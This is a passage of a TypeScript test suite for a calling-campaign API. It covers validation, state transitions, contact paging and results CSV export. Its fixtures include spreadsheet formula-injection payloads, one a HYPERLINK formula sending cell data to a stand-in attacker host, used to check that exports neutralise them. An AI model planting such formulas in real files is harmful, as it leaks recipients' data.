// The campaigns API (endpoints 103–114) apart from CSV parsing: create/read/list/update/delete and
// their validation, the state machine (draft → running ⇄ paused → completed, canceled from any
// non-final state; 409 naming the state otherwise), the contacts list, and what a campaign that
// really dialled shows in its results CSV (formula injection neutralised) and its stats.
import { beforeAll, describe, expect, test } from "bun:test";
import { parseCsv, waitForCall } from "../helpers/call-api.ts";
import { createKey, registerUser, serverWithUser, type RegisteredUser } from "../helpers/fixtures.ts";

const s = serverWithUser("campaigns");
const DAY_MS = 86_400_000;

const ids = {} as { agent: string; number: string; otherAgent: string };
let other: RegisteredUser; // another workspace, with its own agent and number
const foreign = {} as { agent: string; number: string };

async function ok(res: Promise<{ status: number; body: any; text: string }>, status = 200) {
  const r = await res;
  if (r.status !== status) throw new Error(`expected ${status}, got ${r.status}: ${r.text}`);
  return r.body;
}

const api = {
  post: (path: string, body?: unknown, token = s.user.token) => s.server.api.post(path, body, { token }),
  get: (path: string, token = s.user.token) => s.server.api.get(path, { token }),
  patch: (path: string, body: unknown, token = s.user.token) => s.server.api.patch(path, body, { token }),
  delete: (path: string, token = s.user.token) => s.server.api.delete(path, { token }),
};

async function createCampaign(extra: Record<string, unknown> = {}): Promise<any> {
  return ok(api.post("/v1/campaigns", { name: "Spring renewals", agent_id: ids.agent, ...extra }), 201);
}

async function upload(id: string, csv: string, token = s.user.token) {
  const res = await fetch(`${s.server.url}/v1/campaigns/${id}/upload`, { method: "POST", headers: { authorization: `Bearer ${token}`, "content-type": "text/csv" }, body: csv });
  return { status: res.status, body: (await res.json()) as any };
}

const action = (id: string, verb: "start" | "pause" | "cancel") => api.post(`/v1/campaigns/${id}/${verb}`);
const getCampaign = async (id: string) => ok(api.get(`/v1/campaigns/${id}`));
const fields = (res: { body: any }) => (res.body?.errors ?? []).map((e: { field: string }) => e.field);

/** Moves the fake clock a little and lets the job runner look, until `done` holds (real-time deadline). */
async function drive<T>(check: () => Promise<T | undefined | null | false>, { stepMs = 200, timeoutMs = 30_000 } = {}): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const result = await check();
    if (result) return result;
    if (Date.now() > deadline) throw new Error("drive: condition not reached in time");
    s.server.clock.advance(stepMs);
    s.server.ctx.jobs.wake();
    await Bun.sleep(50);
  }
}

async function statusBecomes(id: string, status: string, stepMs?: number) {
  return drive(
    async () => {
      const c = await getCampaign(id);
      return c.status === status ? c : null;
    },
    { stepMs },
  );
}

type State = "draft" | "running" | "paused" | "completed" | "canceled";

/** A campaign with one contact, brought into `state` without placing a call. */
async function inState(state: State): Promise<string> {
  const now = s.server.clock.now();
  // running/paused: start_at far ahead, so the dispatcher waits; completed: end_at passes before the start,
  // so the dispatcher skips the contact and completes the campaign.
  const timing = state === "completed" ? { end_at: new Date(now + 1000).toISOString() } : { start_at: new Date(now + 30 * DAY_MS).toISOString() };
  const campaign = await createCampaign({ name: `in ${state}`, ...timing });
  expect((await upload(campaign.id, "phone,name\n+14155550170,Ada\n")).status).toBe(201);
  if (state === "draft") return campaign.id;
  if (state === "canceled") {
    await ok(action(campaign.id, "cancel"));
    return campaign.id;
  }
  if (state === "completed") {
    s.server.clock.advance(2000);
    await ok(action(campaign.id, "start"));
    await statusBecomes(campaign.id, "completed");
    return campaign.id;
  }
  await ok(action(campaign.id, "start"));
  if (state === "paused") await ok(action(campaign.id, "pause"));
  return campaign.id;
}

/** Cancels a campaign left running or paused, so no dispatcher keeps a job for it. */
async function settle(id: string) {
  const res = await api.get(`/v1/campaigns/${id}`);
  if (res.status === 200 && (res.body.status === "running" || res.body.status === "paused")) await ok(action(id, "cancel"));
}

/** A 409 problem whose `errors[]` carries the campaign's current state. */
function conflictIn(res: { status: number; body: any }, state: string) {
  expect(res.status).toBe(409);
  expect(res.body).toMatchObject({ code: "invalid_state", status: 409, errors: [{ field: "status", message: `is ${state}` }] });
  expect(res.body.detail).toContain(state);
}

beforeAll(async () => {
  // One flow agent serves every campaign: its prompt uses an uploaded column and it extracts a keyed-in account.
  const agent = await ok(
    api.post("/v1/agents", {
      name: "Renewals",
      brain: {
        type: "flow",
        flow: {
          start: "account",
          nodes: {
            account: { type: "ask", text: "Hello {{first_name}}. Please key in your account number, then the pound key.", slot: { name: "account", type: "digits", length: 4 }, next: "connect" },
            connect: { type: "transfer", text: "Thank you. Connecting you now.", number: "+15550001111" },
          },
        },
      },
      extraction: [{ name: "account", type: "string", description: "The account number" }],
    }),
    201,
  );
  ids.agent = agent.id;
  const number = await ok(api.post("/v1/phone-numbers/buy", { area_code: "415" }), 201);
  await ok(api.post(`/v1/phone-numbers/${number.id}/assign`, { agent_id: agent.id }));
  ids.number = number.id;
  ids.otherAgent = (await ok(api.post("/v1/agents", { name: "Second", first_message: "Hi" }), 201)).id;

  other = await registerUser(s.server.api, "neighbour");
  foreign.agent = (await ok(api.post("/v1/agents", { name: "Theirs", first_message: "Hi" }, other.token), 201)).id;
  foreign.number = (await ok(api.post("/v1/phone-numbers/buy", { area_code: "212" }, other.token), 201)).id;
});

describe("create, read, list", () => {
  test("a name and an agent are enough: a draft with working defaults and zero counts for every state", async () => {
    const res = await api.post("/v1/campaigns", { name: "Minimal", agent_id: ids.agent });
    expect(res.status).toBe(201);
    expect(res.body.id).toMatch(/^cmp_/);
    expect(res.body).toMatchObject({
      object: "campaign",
      name: "Minimal",
      agent_id: ids.agent,
      from_number_id: null,
      status: "draft",
      concurrency: 5,
      calls_per_minute: 30,
      window: null,
      retry: { on: ["no_answer", "busy"], max_attempts: 2, delay_minutes: 60 },
      default_country: "US",
      do_not_call: [],
      columns: [],
      last_error: null,
      start_at: null,
      end_at: null,
      metadata: {},
      simulation: null,
      started_at: null,
      completed_at: null,
    });
    expect(res.body.counts).toEqual({ total: 0, pending: 0, dialing: 0, completed: 0, no_answer: 0, busy: 0, failed: 0, retry_scheduled: 0, skipped: 0, canceled: 0 });
    expect(res.body.created_at).toBe(new Date(s.server.clock.now()).toISOString());
    expect(await getCampaign(res.body.id)).toEqual(res.body);
  });

  test("default_country defaults to the workspace's country for national numbers (US when it has none)", async () => {
    const user = await registerUser(s.server.api, "british");
    await ok(api.patch("/v1/workspaces/current", { default_country: "GB" }, user.token));
    const agent = await ok(api.post("/v1/agents", { name: "UK desk", first_message: "Hello" }, user.token), 201);
    const created = await ok(api.post("/v1/campaigns", { name: "London", agent_id: agent.id }, user.token), 201);
    expect(created.default_country).toBe("GB");
    const res = await upload(created.id, "phone\n020 7946 0018\n", user.token);
    expect(res.body).toMatchObject({ accepted: 1, rejected: 0 });
    // An explicit setting wins.
    expect((await ok(api.post("/v1/campaigns", { name: "NY", agent_id: agent.id, default_country: "US" }, user.token), 201)).default_country).toBe("US");
  });

  test("every setting is stored as sent; day names become ISO weekdays; do-not-call is de-duplicated", async () => {
    const startAt = new Date(s.server.clock.now() + DAY_MS).toISOString();
    const endAt = new Date(s.server.clock.now() + 2 * DAY_MS).toISOString();
    const body = {
      name: "Full",
      agent_id: ids.agent,
      from_number_id: ids.number,
      concurrency: 3,
      calls_per_minute: 12,
      window: { days: ["fri", 3, "mon"], start: "09:00", end: "17:30", timezone: "America/New_York" },
      retry: { on: ["busy", "voicemail"], max_attempts: 3, delay_minutes: 15 },
      default_country: "GB",
      do_not_call: ["+14155550199", "+442079460018", "+14155550199"],
      start_at: startAt,
      end_at: endAt,
      metadata: { team: "renewals", quarter: 2 },
      simulation: { behaviour: "hang_up", hang_up_after_ms: 300 },
    };
    const created = await ok(api.post("/v1/campaigns", body), 201);
    expect(created).toMatchObject({
      ...body,
      window: { days: [1, 3, 5], start: "09:00", end: "17:30", timezone: "America/New_York", contact_timezone: true },
      do_not_call: ["+14155550199", "+442079460018"],
      status: "draft",
    });
    expect(await getCampaign(created.id)).toEqual(created);
  });

  const invalid: [string, Record<string, unknown>, string[]][] = [
    ["missing name and agent", { name: undefined, agent_id: undefined }, ["name", "agent_id"]],
    ["empty name", { name: "" }, ["name"]],
    ["unknown agent", { agent_id: "agent_doesnotexist" }, ["agent_id"]],
    ["unknown caller id", { from_number_id: "pn_doesnotexist" }, ["from_number_id"]],
    ["concurrency 0", { concurrency: 0 }, ["concurrency"]],
    ["concurrency 501", { concurrency: 501 }, ["concurrency"]],
    ["calls_per_minute 0", { calls_per_minute: 0 }, ["calls_per_minute"]],
    ["window start 25:00", { window: { days: [1], start: "25:00", end: "17:00", timezone: "UTC" } }, ["window.start"]],
    ["window end 9am", { window: { days: [1], start: "08:00", end: "9am", timezone: "UTC" } }, ["window.end"]],
    ["window in an unknown zone", { window: { days: [1], start: "09:00", end: "17:00", timezone: "Mars/Olympus_Mons" } }, ["window.timezone"]],
    ["window ending before it starts", { window: { days: [1], start: "17:00", end: "09:00", timezone: "UTC" } }, ["window.end"]],
    ["window ending as it starts", { window: { days: [1], start: "09:00", end: "09:00", timezone: "UTC" } }, ["window.end"]],
    ["window without days", { window: { days: [], start: "09:00", end: "17:00", timezone: "UTC" } }, ["window.days"]],
    ["window on day 8", { window: { days: [8], start: "09:00", end: "17:00", timezone: "UTC" } }, ["window.days[0]"]],
    ["retry of 0 attempts", { retry: { on: ["busy"], max_attempts: 0, delay_minutes: 5 } }, ["retry.max_attempts"]],
    ["retry on an unknown outcome", { retry: { on: ["bored"], max_attempts: 2, delay_minutes: 5 } }, ["retry.on[0]"]],
    ["lower-case country", { default_country: "us" }, ["default_country"]],
    ["a country code no country has", { default_country: "UK" }, ["default_country"]],
    ["do-not-call number not in E.164", { do_not_call: ["+14155550100", "415 555 0101"] }, ["do_not_call[1]"]],
    ["start_at not a date", { start_at: "next tuesday" }, ["start_at"]],
    ["end_at before start_at", { start_at: "2030-01-02T00:00:00Z", end_at: "2030-01-01T00:00:00Z" }, ["end_at"]],
    ["end_at equal to start_at", { start_at: "2030-01-02T00:00:00Z", end_at: "2030-01-02T00:00:00Z" }, ["end_at"]],
    ["an unknown field", { colour: "red" }, ["colour"]],
  ];

  test.each(invalid)("create: %s → 422 naming the field, nothing created", async (_, extra, expected) => {
    const before = (await ok(api.get("/v1/campaigns?limit=100"))).data.length;
    const res = await api.post("/v1/campaigns", JSON.parse(JSON.stringify({ name: "Bad", agent_id: ids.agent, ...extra })));
    expect(res.status).toBe(422);
    expect(res.headers.get("content-type")).toContain("application/problem+json");
    expect(res.body.code).toBe("validation_failed");
    // Schema errors inside the nullable `window` name the leaf too, like the service's own checks.
    for (const field of expected) expect(fields(res), `${field} in ${fields(res)}`).toContain(field);
    expect((await ok(api.get("/v1/campaigns?limit=100"))).data.length).toBe(before);
  });

  test("references must be in this workspace: another workspace's agent or number is unknown here", async () => {
    expect(fields(await api.post("/v1/campaigns", { name: "x", agent_id: foreign.agent }))).toEqual(["agent_id"]);
    expect(fields(await api.post("/v1/campaigns", { name: "x", agent_id: ids.agent, from_number_id: foreign.number }))).toEqual(["from_number_id"]);
  });

  test("list: newest first, cursor pages, status filter, only this workspace's", async () => {
    s.server.clock.advance(10); // ties on created_at are ordered by id, which is random
    const a = await createCampaign({ name: "list A" });
    s.server.clock.advance(10);
    const b = await createCampaign({ name: "list B" });
    s.server.clock.advance(10);
    const c = await createCampaign({ name: "list C" });
    await ok(action(b.id, "cancel"));
    const theirs = await ok(api.post("/v1/campaigns", { name: "theirs", agent_id: foreign.agent }, other.token), 201);

    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: any = await ok(api.get(`/v1/campaigns?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`));
      expect(page.data.length).toBeLessThanOrEqual(2);
      seen.push(...page.data.map((x: any) => x.id));
      expect(page.has_more).toBe(page.next_cursor !== null);
      cursor = page.next_cursor;
    } while (cursor);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen.slice(0, 3)).toEqual([c.id, b.id, a.id]);
    expect(seen).not.toContain(theirs.id);

    const canceled = await ok(api.get("/v1/campaigns?status=canceled&limit=100"));
    expect(canceled.data.map((x: any) => x.id)).toContain(b.id);
    expect(canceled.data.every((x: any) => x.status === "canceled")).toBe(true);
    expect(fields(await api.get("/v1/campaigns?status=finished"))).toEqual(["status"]);

    // Another workspace's campaign does not exist here, for any verb.
    for (const res of [
      await api.get(`/v1/campaigns/${theirs.id}`),
      await api.patch(`/v1/campaigns/${theirs.id}`, { name: "mine now" }),
      await api.delete(`/v1/campaigns/${theirs.id}`),
      await action(theirs.id, "start"),
      await action(theirs.id, "cancel"),
      await api.get(`/v1/campaigns/${theirs.id}/contacts`),
      await api.get(`/v1/campaigns/${theirs.id}/results`),
      await api.get(`/v1/campaigns/${theirs.id}/stats`),
    ]) {
      expect(res.status).toBe(404);
    }
    expect((await ok(api.get(`/v1/campaigns/${theirs.id}`, other.token))).name).toBe("theirs");
  });
});

test("a read-only key reads campaigns, contacts, results and stats, and changes nothing (403)", async () => {
  const id = await inState("draft");
  const key = (await createKey(s.server.api, s.user.token, "read-only")).secret;
  for (const path of ["", "/contacts", "/results", "/stats"]) expect((await api.get(`/v1/campaigns/${id}${path}`, key)).status, path).toBe(200);
  expect((await api.post("/v1/campaigns", { name: "x", agent_id: ids.agent }, key)).status).toBe(403);
  expect((await api.patch(`/v1/campaigns/${id}`, { name: "x" }, key)).status).toBe(403);
  for (const verb of ["start", "pause", "cancel"]) expect((await api.post(`/v1/campaigns/${id}/${verb}`, undefined, key)).status, verb).toBe(403);
  expect((await upload(id, "phone\n+14155550175\n", key)).status).toBe(403);
  expect((await api.delete(`/v1/campaigns/${id}`, key)).status).toBe(403);
  const after = await getCampaign(id);
  expect(after).toMatchObject({ status: "draft", name: "in draft", counts: { total: 1 } });
});

describe("update and delete", () => {
  test("PATCH changes what is sent and keeps the rest; a window can be removed with null", async () => {
    const created = await createCampaign({ window: { days: ["mon"], start: "09:00", end: "17:00", timezone: "Europe/London" }, metadata: { a: 1 } });
    s.server.clock.advance(1000);
    const patched = await ok(api.patch(`/v1/campaigns/${created.id}`, { name: "Renamed", concurrency: 9, agent_id: ids.otherAgent, retry: { on: [], max_attempts: 1, delay_minutes: 1 } }));
    expect(patched).toMatchObject({ name: "Renamed", concurrency: 9, agent_id: ids.otherAgent, retry: { on: [], max_attempts: 1, delay_minutes: 1 }, window: created.window, metadata: { a: 1 }, calls_per_minute: 30 });
    expect(Date.parse(patched.updated_at)).toBe(Date.parse(created.updated_at) + 1000);
    expect((await ok(api.patch(`/v1/campaigns/${created.id}`, { window: null }))).window).toBeNull();
    expect(await ok(api.patch(`/v1/campaigns/${created.id}`, {}))).toMatchObject({ name: "Renamed", window: null });
  });

  test("PATCH validation names the field and changes nothing; end_at is checked against the stored start_at", async () => {
    const created = await createCampaign({ start_at: "2030-01-02T00:00:00Z" });
    const cases: [Record<string, unknown>, string][] = [
      [{ end_at: "2030-01-01T00:00:00Z" }, "end_at"],
      [{ concurrency: 0 }, "concurrency"],
      [{ agent_id: foreign.agent }, "agent_id"],
      [{ from_number_id: "pn_nope" }, "from_number_id"],
      [{ window: { days: [1], start: "18:00", end: "08:00", timezone: "UTC" } }, "window.end"],
      [{ window: { days: [1], start: "08:00", end: "18:00", timezone: "Not/AZone" } }, "window.timezone"],
      [{ name: "" }, "name"],
      [{ default_country: "EU" }, "default_country"],
      [{ status: "running" }, "status"],
    ];
    for (const [body, field] of cases) {
      const res = await api.patch(`/v1/campaigns/${created.id}`, { name: "Should not stick", ...body });
      expect(res.status, JSON.stringify(body)).toBe(422);
      expect(fields(res), JSON.stringify(body)).toContain(field);
    }
    expect(await getCampaign(created.id)).toEqual(created);
    // Moving start_at later than the stored end_at is caught the same way.
    await ok(api.patch(`/v1/campaigns/${created.id}`, { end_at: "2030-01-03T00:00:00Z" }));
    expect(fields(await api.patch(`/v1/campaigns/${created.id}`, { start_at: "2030-01-04T00:00:00Z" }))).toEqual(["end_at"]);
    expect(await ok(api.patch(`/v1/campaigns/${created.id}`, { start_at: null }))).toMatchObject({ start_at: null, end_at: "2030-01-03T00:00:00.000Z" });
  });

  test("DELETE removes the campaign and its contacts", async () => {
    const id = await inState("draft");
    const res = await api.delete(`/v1/campaigns/${id}`);
    expect(res.status).toBe(204);
    expect(res.text).toBe("");
    expect((await api.get(`/v1/campaigns/${id}`)).status).toBe(404);
    expect((await api.get(`/v1/campaigns/${id}/contacts`)).status).toBe(404);
    expect((await api.delete(`/v1/campaigns/${id}`)).status).toBe(404);
  });
});

describe("state transitions", () => {
  test("start needs contacts waiting: an empty campaign, or one whose rows were all rejected, is 409", async () => {
    const empty = await createCampaign();
    const res = await action(empty.id, "start");
    expect(res.status).toBe(409);
    expect(res.body.errors).toEqual([{ field: "contacts", message: expect.any(String) }]);
    expect((await upload(empty.id, "phone\n12345\n")).body).toMatchObject({ accepted: 0, rejected: 1 });
    expect((await action(empty.id, "start")).status).toBe(409);
    expect((await getCampaign(empty.id)).status).toBe("draft");
  });

  test("draft → running ⇄ paused → canceled: timestamps, and waiting contacts canceled for good", async () => {
    const id = await inState("draft");
    await upload(id, "phone\n+14155550171\n");
    s.server.clock.advance(1000);
    const started = await ok(action(id, "start"));
    expect(started).toMatchObject({ status: "running", started_at: new Date(s.server.clock.now()).toISOString(), completed_at: null, last_error: null });
    s.server.clock.advance(1000);
    expect(await ok(action(id, "pause"))).toMatchObject({ status: "paused" });
    s.server.clock.advance(1000);
    // Resuming keeps the first start time.
    expect(await ok(action(id, "start"))).toMatchObject({ status: "running", started_at: started.started_at });
    const canceled = await ok(action(id, "cancel"));
    expect(canceled).toMatchObject({ status: "canceled", completed_at: new Date(s.server.clock.now()).toISOString() });
    expect(canceled.counts).toMatchObject({ total: 2, canceled: 2, pending: 0 });
    // start_at in the future: nobody was dialled.
    expect((await ok(api.get(`/v1/calls?campaign_id=${id}`))).data).toEqual([]);
  });

  test("a campaign whose end_at passes completes by itself; the contacts still waiting are skipped", async () => {
    const id = await inState("completed");
    const campaign = await getCampaign(id);
    expect(campaign.completed_at).not.toBeNull();
    expect(campaign.counts).toMatchObject({ total: 1, skipped: 1 });
    const [contact] = (await ok(api.get(`/v1/campaigns/${id}/contacts`))).data;
    expect(contact).toMatchObject({ status: "skipped", attempts: 0, last_end_reason: "campaign_ended" });
  });

  // What each action does in each state: the new state, or 409 with the current one.
  const STATES: State[] = ["draft", "running", "paused", "completed", "canceled"];
  const matrix: Record<"start" | "pause" | "cancel", Record<State, State | 409>> = {
    start: { draft: "running", running: 409, paused: "running", completed: 409, canceled: 409 },
    pause: { draft: 409, running: "paused", paused: 409, completed: 409, canceled: 409 },
    cancel: { draft: "canceled", running: "canceled", paused: "canceled", completed: 409, canceled: 409 },
  };
  for (const verb of ["start", "pause", "cancel"] as const) {
    for (const state of STATES) {
      const expected = matrix[verb][state];
      test(`${verb} on a ${state} campaign → ${expected === 409 ? "409" : expected}`, async () => {
        const id = await inState(state);
        const res = await action(id, verb);
        if (expected === 409) {
          conflictIn(res, state);
          expect((await getCampaign(id)).status).toBe(state);
        } else {
          expect(res.status).toBe(200);
          expect(res.body.status).toBe(expected);
          expect((await getCampaign(id)).status).toBe(expected);
        }
        await settle(id);
      });
    }
  }

  // Editing, deleting and uploading: allowed or 409 per state.
  const allowed: Record<"patch" | "delete" | "upload", State[]> = {
    patch: ["draft", "running", "paused"],
    delete: ["draft", "paused", "completed", "canceled"],
    upload: ["draft", "running", "paused"],
  };
  for (const op of ["patch", "delete", "upload"] as const) {
    for (const state of STATES) {
      const okay = allowed[op].includes(state);
      test(`${op} on a ${state} campaign → ${okay ? "allowed" : "409"}`, async () => {
        const id = await inState(state);
        const before = await getCampaign(id);
        const res =
          op === "patch" ? await api.patch(`/v1/campaigns/${id}`, { concurrency: 2 }) : op === "delete" ? await api.delete(`/v1/campaigns/${id}`) : await upload(id, "phone\n+14155550172\n");
        if (!okay) {
          if (op === "delete") {
            expect(res.status).toBe(409);
            expect(res.body.errors).toEqual([{ field: "status", message: `is ${state}` }]);
          } else conflictIn(res, state);
          expect(await getCampaign(id)).toEqual(before);
        } else if (op === "patch") {
          expect(res.status).toBe(200);
          expect(res.body.concurrency).toBe(2);
        } else if (op === "delete") {
          expect(res.status).toBe(204);
          expect((await api.get(`/v1/campaigns/${id}`)).status).toBe(404);
        } else {
          expect(res.status).toBe(201);
          expect((await getCampaign(id)).counts.total).toBe(2);
        }
        await settle(id);
      });
    }
  }
});

describe("contacts list", () => {
  let id = "";
  beforeAll(async () => {
    id = (await createCampaign()).id;
    const rows = Array.from({ length: 7 }, (_, i) => `+1415555018${i},person ${i}`);
    expect((await upload(id, `phone,name\n${rows.join("\n")}\n`)).body.accepted).toBe(7);
    await ok(action(id, "cancel")); // all 7 canceled, then a status filter has something to tell apart
  });

  test("pages in upload order with limit and cursor, without overlap", async () => {
    const seen: any[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: any = await ok(api.get(`/v1/campaigns/${id}/contacts?limit=3${cursor ? `&cursor=${cursor}` : ""}`));
      pages++;
      seen.push(...page.data);
      expect(page.has_more).toBe(page.next_cursor !== null);
      cursor = page.next_cursor;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen.map((c) => c.variables.name)).toEqual(Array.from({ length: 7 }, (_, i) => `person ${i}`));
    expect(seen.map((c) => c.line)).toEqual([2, 3, 4, 5, 6, 7, 8]);
    expect(seen[0]).toEqual({
      id: expect.any(Number),
      object: "campaign_contact",
      line: 2,
      phone: "+14155550180",
      raw_phone: "+14155550180",
      variables: { name: "person 0", phone: "+14155550180" },
      timezone: null,
      status: "canceled",
      attempts: 0,
      next_attempt_at: null,
      last_call_id: null,
      last_end_reason: null,
      updated_at: expect.any(String),
    });
    // Default page size is 20: one page here.
    expect((await ok(api.get(`/v1/campaigns/${id}/contacts`))).data.length).toBe(7);
  });

  test("filters by status; bad queries are 422 naming the parameter", async () => {
    expect((await ok(api.get(`/v1/campaigns/${id}/contacts?status=canceled&limit=100`))).data.length).toBe(7);
    expect((await ok(api.get(`/v1/campaigns/${id}/contacts?status=pending`))).data).toEqual([]);
    expect(fields(await api.get(`/v1/campaigns/${id}/contacts?status=happy`))).toEqual(["status"]);
    expect(fields(await api.get(`/v1/campaigns/${id}/contacts?limit=101`))).toEqual(["limit"]);
    expect(fields(await api.get(`/v1/campaigns/${id}/contacts?limit=0`))).toEqual(["limit"]);
    expect(fields(await api.get(`/v1/campaigns/${id}/contacts?cursor=not-a-cursor`))).toEqual(["cursor"]);
  });
});

describe("results and stats before any call", () => {
  test("a draft's results list every contact as pending with the uploaded columns; its stats are zero", async () => {
    const { id } = await createCampaign();
    const empty = await fetch(`${s.server.url}/v1/campaigns/${id}/results`, { headers: { authorization: `Bearer ${s.user.token}` } });
    expect(empty.status).toBe(200);
    expect(parseCsv(await empty.text())).toEqual([["phone", "status", "attempts", "last_call_id", "duration_seconds", "end_reason", "called_at", "summary", "cost_micros", "extracted_account"]]);

    await upload(id, "First Name,Phone\nAda,+14155550190\n");
    const res = await fetch(`${s.server.url}/v1/campaigns/${id}/results`, { headers: { authorization: `Bearer ${s.user.token}` } });
    expect(parseCsv(await res.text())).toEqual([
      ["First Name", "phone", "status", "attempts", "last_call_id", "duration_seconds", "end_reason", "called_at", "summary", "cost_micros", "extracted_account"],
      ["Ada", "+14155550190", "pending", "0", "", "", "", "", "", "0", ""],
    ]);
    expect(await ok(api.get(`/v1/campaigns/${id}/stats`))).toEqual({
      object: "campaign_stats",
      campaign_id: id,
      status: "draft",
      counts: { total: 1, pending: 1, dialing: 0, completed: 0, no_answer: 0, busy: 0, failed: 0, retry_scheduled: 0, skipped: 0, canceled: 0 },
      progress: 0,
      calls: 0,
      answered: 0,
      answer_rate: null,
      minutes: 0,
      average_duration_seconds: null,
      currency: "USD",
      cost: 0,
    });
  });
});

describe("a campaign that dials: contacts, results CSV and stats", () => {
  // Cells a spreadsheet would run as formulas, as uploaded, and how the results must show them.
  const INJECTED = [
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["+SUM(1,2)", "'+SUM(1,2)"],
    ["-2+3", "'-2+3"],
    ["@cmd", "'@cmd"],
  ];
  const NOTES = [
    ["\tTAB", "'\tTAB"],
    ["\rCR", "'\rCR"],
    ["-5", "-5"], // a plain number cannot run: left alone
    ['He said "hi", then\nleft', 'He said "hi", then\nleft'],
  ];
  // The last two digits pick the simulated callee: 01 busy, 02 no answer, 04 and 50 answer, then hang up.
  const PHONES = ["+14155550101", "+14155550102", "+14155550104", "+14155550150"];
  const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;

  let mixed = "";
  let keyed = "";
  let mixedCalls: any[] = [];
  let keyedCall: any;

  beforeAll(async () => {
    // Every callee hangs up a second after answering; busy and no-answer get one retry a minute later.
    mixed = (
      await createCampaign({
        name: "Mixed outcomes",
        calls_per_minute: 6000,
        retry: { on: ["busy", "no_answer"], max_attempts: 2, delay_minutes: 1 },
        simulation: { ring_ms: 50, hang_up_after_ms: 1000 },
      })
    ).id;
    const csv = ["Name,Phone,=Note", ...PHONES.map((phone, i) => `${quote(INJECTED[i][0])},${phone},${quote(NOTES[i][0])}`)].join("\r\n");
    expect((await upload(mixed, csv)).body).toMatchObject({ accepted: 4, rejected: 0 });

    // One callee who listens, keys in an account number, and is transferred.
    keyed = (await createCampaign({ name: "Keyed", calls_per_minute: 6000, simulation: { behaviour: "answer", digits: "4217#", ring_ms: 50 } })).id;
    expect((await upload(keyed, "phone,first_name\n+14155550160,Ada\n")).body.accepted).toBe(1);

    await ok(action(mixed, "start"));
    await ok(action(keyed, "start"));
    // First round: everyone dialled once; then the retries come due a (fake) minute later. Small clock
    // steps (pacing needs 10 ms) keep a slow machine from reaching that minute while the first calls run.
    await drive(
      async () => {
        const counts = (await getCampaign(mixed)).counts;
        return counts.pending + counts.dialing === 0 && counts.retry_scheduled === 2;
      },
      { stepMs: 20 },
    );
    const waiting = (await ok(api.get(`/v1/campaigns/${mixed}/contacts?status=retry_scheduled`))).data;
    expect(waiting.map((c: any) => c.phone)).toEqual(PHONES.slice(0, 2));
    for (const contact of waiting) expect(Date.parse(contact.next_attempt_at)).toBeGreaterThan(s.server.clock.now());
    await statusBecomes(keyed, "completed", 20);
    s.server.clock.advance(60_000);
    await statusBecomes(mixed, "completed");

    // Summaries and extracted fields are written just after each call ends.
    mixedCalls = await Promise.all((await ok(api.get(`/v1/calls?campaign_id=${mixed}&limit=100`))).data.map((c: any) => waitForCall(s.server.api, s.user.token, c.id)));
    const keyedIds = (await ok(api.get(`/v1/calls?campaign_id=${keyed}`))).data.map((c: any) => c.id);
    expect(keyedIds.length).toBe(1);
    keyedCall = await waitForCall(s.server.api, s.user.token, keyedIds[0]);
  }, 60_000);

  async function results(id: string) {
    const res = await fetch(`${s.server.url}/v1/campaigns/${id}/results`, { headers: { authorization: `Bearer ${s.user.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toStartWith("text/csv");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${id}-results.csv"`);
    const rows = parseCsv(await res.text());
    const header = rows[0];
    return { header, rows: rows.slice(1).map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]]))) };
  }

  test("every contact ends final; retried outcomes count two attempts", async () => {
    const campaign = await getCampaign(mixed);
    expect(campaign).toMatchObject({ status: "completed", last_error: null });
    expect(campaign.counts).toMatchObject({ total: 4, completed: 2, busy: 1, no_answer: 1, pending: 0, dialing: 0, retry_scheduled: 0 });
    const contacts = (await ok(api.get(`/v1/campaigns/${mixed}/contacts`))).data;
    expect(contacts.map((c: any) => [c.phone, c.status, c.attempts, c.last_end_reason])).toEqual([
      ["+14155550101", "busy", 2, "busy"],
      ["+14155550102", "no_answer", 2, "no_answer"],
      ["+14155550104", "completed", 1, expect.any(String)],
      ["+14155550150", "completed", 1, expect.any(String)],
    ]);
    // Each contact points at its latest call, which belongs to this campaign.
    const byId = new Map(mixedCalls.map((c) => [c.id, c]));
    expect(mixedCalls.length).toBe(6);
    for (const contact of contacts) {
      const call = byId.get(contact.last_call_id);
      expect(call).toMatchObject({ to: contact.phone, campaign_id: mixed, end_reason: contact.last_end_reason });
    }
    expect((await ok(api.get(`/v1/campaigns/${mixed}/contacts?status=completed`))).data.map((c: any) => c.phone)).toEqual(PHONES.slice(2));
  });

  test("results: uploaded columns as written, then the outcome; formula-like cells neutralised", async () => {
    const { header, rows } = await results(mixed);
    expect(header).toEqual(["Name", "'=Note", "phone", "status", "attempts", "last_call_id", "duration_seconds", "end_reason", "called_at", "summary", "cost_micros", "extracted_account"]);
    expect(rows.map((r) => r.Name)).toEqual(INJECTED.map(([, shown]) => shown));
    expect(rows.map((r) => r["'=Note"])).toEqual(NOTES.map(([, shown]) => shown));
    const contacts = (await ok(api.get(`/v1/campaigns/${mixed}/contacts`))).data;
    rows.forEach((row, i) => {
      const contact = contacts[i];
      const call = mixedCalls.find((c) => c.id === contact.last_call_id);
      expect(row).toMatchObject({
        phone: contact.phone,
        status: contact.status,
        attempts: String(contact.attempts),
        last_call_id: call.id,
        duration_seconds: String(Math.round(call.duration_ms / 1000)),
        end_reason: call.end_reason,
        called_at: call.created_at,
        summary: call.summary,
        extracted_account: "",
      });
      expect(call.summary).toMatch(/^The caller (said nothing|spoke once|spoke \d+ times)\. .*\.$/);
    });
    // No cell of the file starts like a formula unless it is a plain number.
    for (const row of rows) for (const cell of Object.values(row)) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell), cell).toBe(false);
  });

  test("stats: counts by state, answer rate, minutes and average duration agree with the calls", async () => {
    const stats = await ok(api.get(`/v1/campaigns/${mixed}/stats`));
    const answered = mixedCalls.filter((c) => c.started_at !== null);
    const totalMs = mixedCalls.reduce((sum, c) => sum + (c.duration_ms ?? 0), 0);
